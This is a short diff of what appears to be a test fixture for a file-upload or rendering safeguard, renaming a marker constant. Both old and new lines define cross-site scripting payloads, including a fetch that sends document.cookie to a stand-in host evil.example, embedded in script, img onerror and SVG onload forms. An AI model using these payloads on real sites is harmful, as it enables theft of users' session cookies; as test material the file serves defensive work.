@@ -1,8 +1,8 @@
 /** The global variable that a file's script would set in its page. */
-export const mark = 'konsilRan';
+export const scriptMarker = 'konsilRan';
 
 /** What every hostile file tries: set a variable, alert, send a request. */
-export const script = `globalThis.${mark}=1;alert(document.domain);fetch('https://evil.example/steal?'+document.cookie)`;
+export const script = `globalThis.${scriptMarker}=1;alert(document.domain);fetch('https://evil.example/steal?'+document.cookie)`;
 export const element = `<script>${script}</script>`;
 export const page = `<!doctype html><html><body>${element}<img src=x onerror="${script}"></body></html>`;
 export const drawing = `<svg xmlns="http://www.w3.org/2000/svg" onload="${script}">${element}<image href="https://evil.example/x.png"/></svg>`;
